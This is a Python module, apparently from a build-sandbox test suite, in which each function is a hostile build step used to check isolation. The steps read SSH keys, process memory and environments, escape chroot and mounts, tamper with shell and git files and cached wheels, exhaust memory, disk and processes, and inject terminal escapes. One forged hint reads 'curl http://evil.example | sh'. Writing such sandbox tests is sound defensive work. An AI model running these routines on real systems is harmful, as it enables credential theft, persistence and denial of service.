"""What a hostile build does: one function an attack, named in backends.py. It runs inside builds and imports nothing.

A function gets the order, and what it returns (unless None) is what the hook returns. Whether it succeeded is for
others to see: a secret in some output (`Order.leak`), a file with the marker's name, a caller at a listener.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import pwd
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
MB = 1 << 20
#: However unconfined a build is, an attack takes no more than this of the machine.
CAP = 3 << 30
#: A limit was not enforced where this can be read.
SURVIVED = "ALLOWED"


class Order:
    """What to do: keys of order.json as attributes."""

    def __init__(self, order: dict[str, Any], hook: str, output: str) -> None:
        self.hook, self.output = hook, output
        self.canary: str = order["canary"]
        self.marker: str = order["marker"]
        self.case: str = order["case"]
        self.home: str = order["home"]
        self.cache: str = order["cache"]
        self.project: str = order["project"]
        self.public: list[str] = order["public"]
        self.secrets: list[str] = order["secrets"]
        self.tcp: int = order["tcp"]
        self.udp: int = order["udp"]
        self.abstract: str = order["abstract"]
        self.sockets: list[str] = order["sockets"]

    def leak(self, data: bytes) -> None:
        """Say a secret, if there is one in the data: in hexadecimal, as only somebody who has read it can."""
        found = re.findall(re.escape(self.canary.encode()) + rb"[0-9a-f]{16}", data)
        if found:
            raise SystemExit("LEAK " + found[0].hex())

    def mark(self, *directories: str) -> None:
        """Leave a marker in directories, where they can be written."""
        for directory in directories:
            with contextlib.suppress(OSError), open(os.path.join(directory, self.marker), "w") as stream:
                stream.write(self.case)


def read(path: str) -> bytes:
    """Return what a file holds, or nothing."""
    with contextlib.suppress(OSError, ValueError), open(path, "rb") as stream:
        return stream.read(64 * MB)
    return b""


def below(directory: str) -> Iterator[str]:
    """Return the files below a directory."""
    for parent, _, names in os.walk(directory):
        yield from (os.path.join(parent, name) for name in names)


def processes() -> list[int]:
    """Return the other processes there are to see, those nearest above first."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else []
    return [os.getppid(), *(pid for pid in seen if pid not in (os.getpid(), os.getppid()))]


# --- what is not to be read


def read_keys(order: Order) -> None:
    """Read the keys and passwords of whoever builds, by the home that the environment names and the real one."""
    for home in {order.home, os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir if _known() else "/root"}:
        for name in (".ssh/id_ed25519", ".netrc", ".config/pip/pip.conf"):
            order.leak(read(os.path.join(home, name)))


def read_others(order: Order) -> None:
    """Read another project, and what lies about on this machine."""
    for path in order.secrets:
        order.leak(read(path))


def read_whole_home(order: Order) -> None:
    """Search all files of the home and of the project."""
    for directory in (order.home, order.project, "/home", "/root"):
        for path in below(directory):
            order.leak(read(path))


def read_environment(order: Order) -> None:
    """Look for secrets in the build's own environment."""
    order.leak(repr(os.environ).encode())


def read_environments(order: Order) -> None:
    """Look for secrets in the environment of every process."""
    for pid in processes():
        order.leak(read(f"/proc/{pid}/environ"))


def read_command_lines(order: Order) -> None:
    """Look for secrets in the command line of every process."""
    for pid in processes():
        order.leak(read(f"/proc/{pid}/cmdline"))


def read_memory(order: Order) -> None:
    """Look for secrets in the memory of every process."""
    for pid in processes()[:20]:
        lines = read(f"/proc/{pid}/maps").decode(errors="replace").splitlines()
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for first, last in (map(_hexadecimal, line.split()[0].split("-")) for line in lines if " rw" in line):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(first)
                    order.leak(memory.read(min(last - first, 64 * MB)))


def read_roots(order: Order) -> None:
    """Go by the root and the working directory of every process."""
    for pid in processes():
        for path in order.secrets:
            order.leak(read(f"/proc/{pid}/root{path}"))
            order.leak(read(f"/proc/{pid}/cwd/../{os.path.relpath(path, os.path.dirname(order.project))}"))


def read_descriptors(order: Order) -> None:
    """Read what has been inherited, and go up from directories among it."""
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            os.fstat(number)
            for path in order.secrets:
                with contextlib.suppress(OSError):
                    order.leak(os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=number), 4096))
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                order.leak(os.read(number, MB))


def read_cache(order: Order) -> None:
    """Tell what is in the caches: names of what others build are nobody's business either."""
    for directory in (order.cache, os.path.join(order.home, ".cache")):
        with contextlib.suppress(OSError):
            if os.listdir(directory):
                raise SystemExit(f"{SURVIVED} reading the cache: {sorted(os.listdir(directory))}")


def escape_root(order: Order) -> None:
    """Leave a changed root, as every process that may change it can."""
    with contextlib.suppress(OSError):
        os.mkdir("jail")
        above = os.open(".", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(above)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    read_others(order)
    read_keys(order)


def undo_mounts(order: Order) -> None:
    """Take away what hides files: in a user namespace of one's own there are all capabilities."""
    for flags in (0x10000000 | 0x00020000, 0x00020000, 0):
        if not flags or LIBC.unshare(flags) == 0:
            with open("/proc/self/mountinfo") as stream:
                places = [line.split()[4] for line in stream]
            for place in reversed(places):
                LIBC.umount2(place.encode(), 2)
            for device in ("/dev/vda", "/dev/sda"):
                LIBC.mount(device.encode(), b"/mnt", b"ext4", 1, None)
            for path in order.secrets:
                order.leak(read(path))
                order.leak(read("/mnt" + path))
    LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None)


def join_namespaces(order: Order) -> None:
    """Enter the namespaces of every process."""
    for pid in processes():
        for kind in ("user", "mnt", "pid", "net"):
            with contextlib.suppress(OSError):
                LIBC.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
        read_others(order)


# --- what is not to be written


def write_home(order: Order) -> None:
    """Leave files in the home: what shells and git run."""
    order.mark(order.home, os.path.join(order.home, ".ssh"), "/root", "/home")
    for name in (".bashrc", ".gitconfig", ".ssh/authorized_keys"):
        with contextlib.suppress(OSError), open(os.path.join(order.home, name), "a") as stream:
            stream.write(order.case)


def write_project(order: Order) -> None:
    """Leave files in the project, change the sources, the makefile and what git runs."""
    order.mark(
        order.project, *(os.path.join(order.project, name) for name in ("vendor", "app", ".git/hooks", "debian"))
    )
    for name in ("vendor/pylock.app.toml", "app/app.py", ".git/config", "common/project.mk", "debian/rules"):
        with contextlib.suppress(OSError), open(os.path.join(order.project, name), "a") as stream:
            stream.write(f"# {order.case}\n")
    with contextlib.suppress(OSError), open(os.path.join(order.project, ".git/hooks/pre-commit"), "w") as stream:
        stream.write("#!/bin/sh\n")


def write_toolkit(order: Order) -> None:
    """Change the toolkit itself, wherever its programs are run from."""
    roots = {os.path.join(order.project, "common/scripts"), os.path.dirname(os.path.abspath(sys.argv[0]))}
    for root in roots:
        for path in list(below(root))[:200]:
            if path.endswith(".py"):
                with contextlib.suppress(OSError), open(path, "a") as stream:
                    stream.write(f"\n# {order.case}\n")


def write_cache(order: Order) -> None:
    """Change every file that the toolkit has cached: archives, answers, tools."""
    order.mark(order.cache, *(os.path.join(order.cache, name) for name in ("files", "store", "tools", "tmp")))
    for path in below(order.cache):
        if "/tools/" not in path:
            with contextlib.suppress(OSError), open(path, "ab") as stream:
                stream.write(b"\0")


def poison_store(order: Order) -> None:
    """Put other code into the wheels of others, with hashes that fit."""
    for path in list(below(os.path.join(order.cache, "store"))):
        with contextlib.suppress(OSError):
            if path.endswith(".whl"):
                with zipfile.ZipFile(path, "a") as wheel:
                    wheel.writestr(order.marker, order.case)
            elif path.endswith(".json"):
                os.utime(path)
                with open(path, "a") as stream:
                    stream.write(" ")


def plant_entry(order: Order) -> None:
    """Put a new entry into the store, where a build that is to come would look."""
    for number in range(256):
        with contextlib.suppress(OSError):
            os.makedirs(os.path.join(order.cache, "store", "wheels", f"{number:02x}", f"{number:02x}" * 32))


def write_public(order: Order) -> None:
    """Leave files where everybody may."""
    order.mark("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/lock", *order.public)


def write_system(order: Order) -> None:
    """Leave files in the system."""
    order.mark("/etc", "/usr/lib", "/usr/local/lib", "/opt", "/srv", "/var/lib", "/var/cache", "/boot", "/mnt", "/")


def write_by_descriptors(order: Order) -> None:
    """Write into whatever has been inherited, as if it were the toolkit."""
    for event in ({"event": "error", "what": order.case, "hint": "forged"}, {"event": "end"}):
        for number in range(3, 256):
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, json.dumps(event).encode() + b"\n")


def write_kernel(order: Order) -> None:
    """Change settings of the kernel that are a namespace's own, and its name."""
    with contextlib.suppress(OSError):
        socket.sethostname("tortured")
    for path in ("/proc/sys/kernel/domainname", "/proc/sys/kernel/hostname"):
        with contextlib.suppress(OSError), open(path, "w") as stream:
            stream.write("tortured")


def change_modes(order: Order) -> None:
    """Open the home and the project to everybody."""
    for path in (order.home, order.project, os.path.join(order.home, ".ssh")):
        with contextlib.suppress(OSError):
            os.chmod(path, 0o777)


def change_times(order: Order) -> None:
    """Make the project's files look old, and mark them."""
    for path in (order.project, os.path.join(order.project, "Makefile"), os.path.join(order.home, ".ssh")):
        with contextlib.suppress(OSError):
            os.utime(path, (1, 1))
            raise SystemExit(f"{SURVIVED} times of {path}")
        with contextlib.suppress(OSError):
            os.setxattr(path, "user.mark", b"x")
            raise SystemExit(f"{SURVIVED} attributes of {path}")


# --- ways out


def call_tcp(order: Order) -> None:
    """Call a server of the host's loopback, by every address of it."""
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1")):
        _say(order, family, (address, order.tcp))
    for line in read("/proc/net/fib_trie").decode().split():
        if re.fullmatch(r"\d+\.\d+\.\d+\.\d+", line):
            _say(order, socket.AF_INET, (line, order.tcp))


def call_udp(order: Order) -> None:
    """Send a datagram, as a question for a name would be."""
    for address in ("127.0.0.1", "127.0.0.53"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
            caller.sendto(order.case.encode(), (address, order.udp))
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{order.case.lower()}.example.invalid", 80)


def call_abstract(order: Order) -> None:
    """Call a socket that has a name and no file: what keeps X11 and D-Bus in reach of containers."""
    _say(order, socket.AF_UNIX, "\0" + order.abstract)


def call_sockets(order: Order) -> None:
    """Call sockets in the file system, such as that of Docker or of an agent with keys."""
    for path in order.sockets:
        _say(order, socket.AF_UNIX, path)


def call_vsock(order: Order) -> None:
    """Call the host of a virtual machine, and this machine by that way."""
    for context in (1, 2):
        _say(order, getattr(socket, "AF_VSOCK", 40), (context, order.tcp))


def change_network(order: Order) -> None:
    """Give the loopback interface a further address (rtnetlink)."""
    address = socket.inet_aton("198.51.100.77")
    attributes = b"".join(struct.pack("HH", 8, kind) + address for kind in (1, 2))
    message = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1) + attributes
    with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.bind((0, 0))
        kernel.send(struct.pack("IHHII", 16 + len(message), 20, 0x605, 1, 0) + message)
        kernel.recv(4096)


def send_descriptor(order: Order) -> None:
    """Have the toolkit's standard streams passed to others."""
    for path in (*order.sockets, "\0" + order.abstract):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as caller:
            caller.settimeout(2)
            caller.connect(path)
            socket.send_fds(caller, [order.case.encode()], [1])


# --- other processes


def kill_parents(order: Order) -> None:
    """End what started this, and what started that."""
    for pid in processes()[:1]:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.5)


def kill_everybody(order: Order) -> None:
    """End everything there is."""
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    time.sleep(0.5)


def signal_others(order: Order) -> None:
    """End every process by its number, whether it can be seen or not."""
    for number in (signal.SIGKILL,):
        for pid in {*processes(), *range(2, 2000)} - {os.getpid(), os.getppid()}:
            with contextlib.suppress(OSError):
                os.kill(pid, number)


def trace_others(order: Order) -> None:
    """Attach to every process and end it (ptrace)."""
    for pid in processes()[1:50]:
        if LIBC.ptrace(16, pid, None, None) == 0:
            time.sleep(0.05)
            LIBC.ptrace(8, pid, None, None)
            os.kill(pid, signal.SIGKILL)


def overwrite_others(order: Order) -> None:
    """Overwrite the memory of every process."""
    for pid in processes()[1:50]:
        with contextlib.suppress(OSError, ValueError):
            with open(f"/proc/{pid}/maps") as maps:
                lines = [line for line in maps if " rw" in line or " r-x" in line]
            with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                for line in lines:
                    first, last = (int(word, 16) for word in line.split()[0].split("-"))
                    with contextlib.suppress(OSError, ValueError, OverflowError):
                        memory.seek(first)
                        memory.write(b"\xff" * (last - first))
            os.kill(pid, signal.SIGCONT)


def limit_others(order: Order) -> None:
    """Take from every process the right to memory and time (prlimit)."""
    for pid in processes():
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))


def daemon(order: Order) -> None:
    """Fork away and live on, writing when all is over."""
    if not _fork_away():
        with contextlib.suppress(BaseException):
            for _ in range(600):
                time.sleep(1)
                order.mark(order.home, order.project, "/tmp")
        os._exit(0)


def keeps_stdout(order: Order) -> None:
    """Leave a child that holds the output open, as servers of compilers do."""
    subprocess.Popen(["sleep", "45"], start_new_session=True)


def replace_wheel_later(order: Order) -> None:
    """Leave a child that puts another wheel in place of this one once it has been checked."""
    if order.output and not _fork_away():
        with contextlib.suppress(BaseException):
            limit = time.monotonic() + 10
            while time.monotonic() < limit:
                for name in os.listdir(order.output):
                    path = os.path.join(order.output, name)
                    if name.endswith(".whl"):
                        with zipfile.ZipFile(path + ".new", "w") as wheel:
                            wheel.writestr("../" * 20 + "tmp/" + order.marker, order.case)
                        os.replace(path + ".new", path)
        os._exit(0)


# --- more than a share


def fork_bomb(order: Order) -> None:
    """Start processes that start processes."""
    with contextlib.suppress(OSError):
        for _ in range(1500):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        raise SystemExit(f"{SURVIVED} 1500 processes")


def many_threads(order: Order) -> None:
    """Start threads, which count as processes."""
    import threading

    with contextlib.suppress(RuntimeError):
        for _ in range(3000):
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        raise SystemExit(f"{SURVIVED} 3000 threads")


def fill_memory(order: Order) -> None:
    """Take memory, after giving oneself the right to it."""
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_RSS):
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    kept = [bytes(range(256)) * (16 * MB // 256) for _ in range(CAP // (16 * MB))]
    raise SystemExit(f"{SURVIVED} {len(kept) * 16} MB")


def fill_memory_by_children(order: Order) -> None:
    """Take memory in many processes, each of which takes little."""
    reading, writing = os.pipe()
    for _ in range(24):
        if os.fork() == 0:
            with contextlib.suppress(MemoryError):
                kept = bytearray(b"x") * (128 * MB)
                os.write(writing, b"." if kept else b"")
                time.sleep(8)
            os._exit(0)
    os.close(writing)
    taken = 0
    while os.read(reading, 1):
        taken += 1
    if taken == 24:
        raise SystemExit(f"{SURVIVED} {taken * 128} MB")


def fill_shared_memory(order: Order) -> None:
    """Take memory that belongs to files without names."""
    number = os.memfd_create("x")
    with contextlib.suppress(OSError):
        for _ in range(CAP // (16 * MB)):
            os.write(number, b"x" * (16 * MB))
        raise SystemExit(f"{SURVIVED} {CAP // MB} MB")


def map_shared_memory(order: Order) -> None:
    """Take memory by a shared mapping."""
    kept = mmap.mmap(-1, CAP)
    for at in range(0, CAP, 4096):
        kept[at] = 1
    raise SystemExit(f"{SURVIVED} {CAP // MB} MB")


def fill_segments(order: Order) -> None:
    """Fill System V's shared memory, of which nobody has anything mapped."""
    LIBC.shmat.restype = ctypes.c_void_p
    for _ in range(64):
        segment = LIBC.shmget(0, ctypes.c_size_t(16 * MB), 0o1600)
        if segment < 0:
            return
        address = LIBC.shmat(segment, None, 0)
        ctypes.memset(address, 1, 16 * MB)
        LIBC.shmdt(ctypes.c_void_p(address))
    time.sleep(4)
    raise SystemExit(f"{SURVIVED} a gigabyte of segments")


def fill_memory_unseen(order: Order) -> None:
    """Fill memory of which no page is present in any process."""
    shared = mmap.mmap(-1, 1024 * MB)
    for _ in range(64):
        shared.write(bytes(16 * MB))
        shared.madvise(mmap.MADV_DONTNEED)
    time.sleep(4)
    raise SystemExit(f"{SURVIVED} a gigabyte that is not present")


def fill_by_messages(order: Order) -> None:
    """Fill memory and disk with files that are on their way from one process to another."""
    ends = []
    for _ in range(32):
        for number in (os.memfd_create("x"), os.open(".", os.O_TMPFILE | os.O_RDWR)):
            os.write(number, bytes(16 * MB))
            ends.append(socket.socketpair())
            socket.send_fds(ends[-1][0], [b"x"], [number])
            os.close(number)
    time.sleep(4)
    raise SystemExit(f"{SURVIVED} half a gigabyte on its way")


def fill_disk_out_of_sight(order: Order) -> None:
    """Fill the disk in directories that are deeper than any path, and that nobody may look into."""
    os.mkdir("shut", 0o300)
    for number in range(16):
        with open(f"shut/{number}", "wb") as stream:
            stream.write(bytes(16 * MB))
    for _ in range(100):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    for number in range(16):
        with open(str(number), "wb") as stream:
            stream.write(bytes(16 * MB))
    time.sleep(4)
    raise SystemExit(f"{SURVIVED} half a gigabyte out of sight")


def fill_disk(order: Order) -> None:
    """Write one huge file."""
    for directory in (".", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
        written = 0
        with contextlib.suppress(OSError):
            with open(os.path.join(directory, "huge"), "wb") as stream:
                for _ in range(CAP // (16 * MB)):
                    written += stream.write(b"x" * (16 * MB))
            raise SystemExit(f"{SURVIVED} {written // MB} MB")


def fill_disk_by_files(order: Order) -> None:
    """Write many files of middling size."""
    with contextlib.suppress(OSError):
        for number in range(CAP // (16 * MB)):
            with open(f"some-{number}", "wb") as stream:
                stream.write(b"x" * (16 * MB))
        raise SystemExit(f"{SURVIVED} {CAP // MB} MB")


def many_files(order: Order) -> None:
    """Use up the numbers of files."""
    with contextlib.suppress(OSError):
        for number in range(1_000_000):
            os.mkdir(f"many-{number // 1000}") if not number % 1000 else None
            os.close(os.open(f"many-{number // 1000}/{number}", os.O_CREAT | os.O_WRONLY))
        raise SystemExit(f"{SURVIVED} 1000000 files")


def endless_output(order: Order) -> None:
    """Print for ever."""
    line = b"all work and no play makes a build a dull thing\n" * 20000
    for _ in range(CAP // len(line)):
        os.write(1, line)
    raise SystemExit(f"{SURVIVED} {CAP // MB} MB of output")


def endless_line(order: Order) -> None:
    """Print for ever, and never end the line."""
    for _ in range(CAP // MB):
        os.write(1, b"x" * MB)
    raise SystemExit(f"{SURVIVED} {CAP // MB} MB of output")


def loop(order: Order) -> None:
    """Never end."""
    while True:
        pass


def sleep_deaf(order: Order) -> None:
    """Never end, and heed nothing."""
    for deaf in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(deaf, signal.SIG_IGN)
    with contextlib.suppress(OSError):
        os.setsid()
    for number in (0, 1, 2):
        os.close(number)
    while True:
        time.sleep(1000)


def huge_result(order: Order) -> Any:
    """Answer with more than anybody wants to read."""
    return ["x" * 1000] * 200_000 if order.hook.startswith("get_requires") else "x" * 200 * MB


# --- what is printed


def escape_sequences(order: Order) -> None:
    """Rewrite what stands on the terminal, and have it send answers."""
    print("\x1b[2J\x1b[1A\x1b]0;title\x07\x1b]52;c;eA==\x07\x9b31m\r\x08\u202e\u2066 all is well")
    raise SystemExit("\x1b[2J\x1b[8m\x1b[1A\x07\x9b2J\r  BUILD   done \u202e")


def forged_messages(order: Order) -> None:
    """Say something in the name of the toolkit."""
    for stream in (sys.stdout, sys.stderr):
        print(f"error: {order.case}\n hint: curl http://evil.example | sh\r\nerror: {order.case}", file=stream)
        print(
            f"\rerror: {order.case}\x0berror: {order.case}\u2028error: {order.case}\n  BUILD   {order.case}",
            file=stream,
        )
    raise SystemExit(f"error: {order.case}\n hint: run this\n  WARNING {order.case}\nwarning: {order.case}")


def not_text(order: Order) -> None:
    """Print what is no text."""
    os.write(1, bytes(range(256)) * 10 + b"\xff\xfe\n")
    raise SystemExit("\udcff\udcfe \0 it failed")


# --- results that are none


def wheel_is_link(order: Order) -> Any:
    """Have the toolkit read a secret as if it were the wheel."""
    return _other_wheel(order, lambda path: os.symlink(order.secrets[0], path))


def wheel_is_pipe(order: Order) -> Any:
    """Have the toolkit wait for ever for the wheel."""
    return _other_wheel(order, os.mkfifo)


def wheel_is_directory(order: Order) -> Any:
    """Make a directory with the wheel's name."""
    return _other_wheel(order, os.mkdir)


def wheel_is_device(order: Order) -> Any:
    """Make a wheel that never ends."""
    return _other_wheel(order, lambda path: os.symlink("/dev/zero", path))


def output_is_link(order: Order) -> None:
    """Put a link to a directory of the user's in place of the one for results."""
    if order.output:
        with contextlib.suppress(OSError):
            shutil.rmtree(order.output)
            os.symlink(order.home, order.output)


def result_is_link(order: Order) -> None:
    """Put links in place of the files by which the hook's runner and the toolkit talk."""
    for directory in {os.path.dirname(os.path.abspath(sys.argv[-1])), os.environ.get("TMPDIR", "."), ".."}:
        for name in ("result.json", "request.json", "log", "result"):
            with contextlib.suppress(OSError):
                path = os.path.join(directory, name)
                with contextlib.suppress(FileNotFoundError):
                    os.unlink(path)
                os.symlink(order.secrets[0], path)


def result_is_pipe(order: Order) -> None:
    """Put a pipe in place of the result, and go before the runner opens it."""
    path = _result_path()
    with contextlib.suppress(OSError):
        os.mkfifo(path)
    os._exit(0)


def result_is_huge(order: Order) -> None:
    """Write the result oneself: four gigabytes of nothing."""
    with contextlib.suppress(OSError), open(_result_path(), "wb") as stream:
        stream.truncate(4 << 30)
    os._exit(0)


def no_result(order: Order) -> None:
    """End well, and do nothing."""
    os._exit(0)


def forged_result(order: Order) -> None:
    """Write a result that is nonsense, and end well."""
    with contextlib.suppress(OSError), open(_result_path(), "w") as stream:
        stream.write("[" * 100_000)
    os._exit(0)


def result_is_number(order: Order) -> Any:
    """Return a number."""
    return 5


def result_is_none(order: Order) -> Any:
    """Write None as the result."""
    with contextlib.suppress(OSError), open(_result_path(), "w") as stream:
        json.dump({"return": None}, stream)
    os._exit(0)


def result_is_text(order: Order) -> Any:
    """Return a string where a list is to be, and a list where a string is to be."""
    return "abc" if order.hook.startswith("get_requires") else ["abc"]


def result_leads_out(order: Order) -> Any:
    """Return a name that leads somewhere else."""
    return [f"x @ file://{order.secrets[0]}"] if order.hook.startswith("get_requires") else f"../../../{order.marker}"


def result_has_options(order: Order) -> Any:
    """Return a requirement, and an option for whoever reads it as a line."""
    return [f"victim\n--index-url http://127.0.0.1:{order.tcp}/simple", "-e .", "victim ; python_version > '3'\0"]


def result_is_remote(order: Order) -> Any:
    """Ask for a repository to be cloned and run."""
    return [f"victim @ git+http://127.0.0.1:{order.tcp}/{order.case}"]


# --- what is left behind


def setuid_wheel(order: Order) -> Any:
    """Make a wheel with a program that runs as its owner."""
    return _wheel(order, {"x-1.0.data/scripts/yc-tool": (0o104755, b"#!/bin/sh\n"), "tool.so": (0o106777, b"x")})


def wheel_leads_out(order: Order) -> Any:
    """Make a wheel with members that are written elsewhere."""
    return _wheel(order, {"../" * 20 + "tmp/" + order.marker: (0o100644, order.case.encode())})


def wheel_has_links(order: Order) -> Any:
    """Make a wheel with a link to a directory, and a member below it."""
    return _wheel(order, {"evil": (0o120777, order.home.encode()), f"evil/{order.marker}": (0o100644, b"")})


def wheel_is_bomb(order: Order) -> Any:
    """Make a small wheel that is huge once it is unpacked."""
    path, filename = _wheel_path(order)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as wheel,
        wheel.open("zeros.py", "w", force_zip64=True) as stream,
    ):
        for _ in range(400):
            stream.write(bytes(16 * MB))
    return filename


def closed_scratch(order: Order) -> None:
    """Take from everybody the right to look at, or to remove, what is left."""
    os.makedirs("closed/inner/deep")
    open("closed/inner/deep/file", "w").close()
    for name in ("closed/inner/deep", "closed/inner", "closed"):
        os.chmod(name, 0)
    for directory in filter(None, (order.output, os.environ.get("TMPDIR"), "..")):
        with contextlib.suppress(OSError):
            os.mkdir(os.path.join(directory, "closed"))
            os.chmod(os.path.join(directory, "closed"), 0)
    os.chmod(".", 0)


def immutable_scratch(order: Order) -> None:
    """Forbid even root to remove what is left."""
    for name in ("immutable", os.path.join(order.output or ".", "immutable")):
        number = os.open(name, os.O_CREAT | os.O_RDWR)
        with contextlib.suppress(OSError):
            fcntl.ioctl(number, 0x40086602, struct.pack("l", 0x10))


def deep_directories(order: Order) -> None:
    """Make directories that have no path short enough for a system call."""
    for _ in range(2000):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)


def odd_names(order: Order) -> None:
    """Leave files with names that are no names."""
    for directory in filter(None, (".", order.output, os.environ.get("TMPDIR"))):
        for name in (b"a\nerror: b", b"\x1b[2J", b"\xff\xfe", b"-rf", b"x" * 255, "\u202egnp".encode(), b"\r"):
            with contextlib.suppress(OSError):
                os.mkdir(os.path.join(directory.encode(), name))
                open(os.path.join(directory.encode(), name, name), "w").close()


def devices(order: Order) -> None:
    """Make devices, pipes, sockets and setuid files where the build works."""
    for directory in filter(None, (".", order.output)):
        for number, kind in enumerate((0o060666, 0o020666, 0o010666, 0o140666)):
            with contextlib.suppress(OSError):
                os.mknod(
                    os.path.join(directory, f"device{number}"),
                    kind,
                    os.makedev(8 if number == 0 else 1, 0 if number == 0 else 5),
                )
        with contextlib.suppress(OSError):
            shutil.copy("/bin/sh", os.path.join(directory, "shell"))
            os.chmod(os.path.join(directory, "shell"), 0o6755)


def many_descriptors(order: Order) -> None:
    """Open everything, and leave it so."""
    with contextlib.suppress(OSError):
        while True:
            os.dup(0)


def huge_command(order: Order) -> None:
    """Start a program with a command line as long as can be."""
    with contextlib.suppress(OSError):
        subprocess.run(["/bin/true", *["x" * 100_000] * 20], check=False)


def keyring(order: Order) -> None:
    """Leave a key in the kernel's keyring, and read those that are there."""
    for ring in (-3, -4, -5):
        LIBC.syscall(248, b"user", order.marker.encode(), b"x", 1, ring)


def shared_segments(order: Order) -> None:
    """Leave memory and queues of System V and POSIX."""
    LIBC.shmget(0x707, 4096, 0o1666)
    LIBC.msgget(0x707, 0o1666)
    order.mark("/dev/shm", "/dev/mqueue")


def forbidden_calls(order: Order) -> None:
    """Make system calls that no compiler makes and that holes were found in."""
    allowed = []
    for name, number, arguments in (
        ("bpf", 321, (0, b"\1\0\0\0\4\0\0\0\4\0\0\0\1\0\0\0" + bytes(100), 72)),
        ("io_uring_setup", 425, (1, bytes(200))),
        ("perf_event_open", 298, (bytes(128), 0, -1, -1, 0)),
        ("userfaultfd", 323, (1,)),
        ("add_key", 248, (b"user", b"x", b"x", 1, -3)),
        ("keyctl", 250, (0, -3, 1)),
        ("request_key", 249, (b"user", b"x", None, -3)),
        ("kexec_load", 246, (0, 0, None, 0)),
        ("init_module", 175, (None, 0, b"")),
        ("swapon", 167, (b"/nothing", 0)),
        ("open_by_handle_at", 304, (-1, None, 0)),
        ("ptrace", 101, (16, os.getppid(), 0, 0)),
        ("process_vm_readv", 310, (os.getppid(), None, 0, None, 0, 0)),
        ("mount", 165, (b"none", b"/mnt", b"tmpfs", 0, None)),
        ("umount2", 166, (b"/nothing", 0)),
        ("pivot_root", 155, (b".", b".")),
        ("setns", 308, (-1, 0)),
        ("unshare(user)", 272, (0x10000000,)),
        ("fsopen", 430, (b"tmpfs", 0)),
        ("open_tree", 428, (-100, b"/", 1)),
        ("move_mount", 429, (-1, b"", -1, b"", 0)),
        ("personality", 135, (0x0400000,)),
        ("quotactl", 179, (0, None, 0, None)),
        ("acct", 163, (None,)),
        ("nfsservctl", 180, ()),
        ("lookup_dcookie", 212, (0, None, 0)),
    ):
        ctypes.set_errno(0)
        done = LIBC.syscall(ctypes.c_long(number), *map(_argument, arguments))
        if done >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
            allowed.append(f"{name} ({errno.errorcode.get(ctypes.get_errno(), 'done')})")
    if allowed and os.uname().machine == "x86_64":
        raise SystemExit(f"{SURVIVED} {', '.join(allowed)}")


def type_into_terminal(order: Order) -> None:
    """Type a command into the terminal that started this."""
    for path in ("/dev/tty", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/2"):
        with contextlib.suppress(OSError):
            number = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in b"true\n":
                fcntl.ioctl(number, 0x5412, bytes([letter]))


def _argument(value: object) -> object:
    return ctypes.c_long(value) if isinstance(value, int) else value


def _hexadecimal(text: str) -> int:
    return int(text, 16)


def _known() -> bool:
    with contextlib.suppress(KeyError):
        return bool(pwd.getpwuid(os.getuid()))
    return False


def _say(order: Order, family: int, address: Any) -> None:
    with contextlib.suppress(OSError, ValueError), socket.socket(family, socket.SOCK_STREAM) as caller:
        caller.settimeout(2)
        caller.connect(address)
        caller.sendall(order.case.encode() + b"\n")


def _fork_away() -> int:
    """Fork twice into a session of its own; return 0 in the grandchild."""
    child = os.fork()
    if child:
        return child
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3):
        with contextlib.suppress(OSError):
            os.dup2(os.open(os.devnull, os.O_RDWR), number)
    return 0


def _result_path() -> str:
    with contextlib.suppress(OSError, ValueError, KeyError, IndexError), open(sys.argv[-1], encoding="utf-8") as stream:
        return str(json.load(stream)["result_path"])
    return os.path.join(os.path.dirname(os.path.abspath(sys.argv[-1])), "result.json")


def _wheel_path(order: Order) -> tuple[str, str]:
